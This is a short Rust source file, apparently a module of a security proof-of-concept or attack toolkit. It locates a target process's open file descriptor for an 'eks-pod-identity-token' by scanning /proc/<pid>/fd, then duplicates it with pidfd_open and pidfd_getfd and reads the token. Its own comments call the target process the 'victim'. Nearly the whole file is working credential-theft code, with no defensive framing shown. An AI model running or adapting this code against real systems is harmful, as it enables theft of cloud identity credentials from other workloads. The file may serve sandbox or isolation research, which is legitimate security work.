//! The victim's open descriptor of its token is copied out of its process (pidfd_getfd).

use std::{fs, os::fd::OwnedFd};

use anyhow::{Context, Result};
use rustix::{
    io::Errno,
    process::{Pid, PidfdFlags, PidfdGetfdFlags, pidfd_getfd, pidfd_open},
};

use crate::common::{offered, read};

/// Number of the holder's process.
pub fn run(args: &[String]) -> Result<()> {
    let pid = args.first().context("no pid")?;
    read(copied(pid, "eks-pod-identity-token")?)
}

/// A copy of the descriptor whose link's name holds `name`.
pub fn copied(pid: &str, name: &str) -> Result<OwnedFd> {
    let number = number_of(pid, name)?;
    let process = Pid::from_raw(pid.parse()?).context("no such pid")?;
    let process = pidfd_open(process, PidfdFlags::empty()).map_err(Errno::into);
    let process = offered(process, "pidfd_open")?;
    let copy = pidfd_getfd(process, number, PidfdGetfdFlags::empty());
    offered(copy.map_err(Errno::into), "pidfd_getfd")
}

pub fn number_of(pid: &str, name: &str) -> Result<i32> {
    for entry in fs::read_dir(format!("/proc/{pid}/fd"))? {
        let entry = entry?;
        let target = fs::read_link(entry.path())?;
        if target.to_string_lossy().contains(name) {
            let number = entry.file_name();
            return Ok(number.to_string_lossy().parse()?);
        }
    }
    anyhow::bail!("{pid} has no {name} open")
}
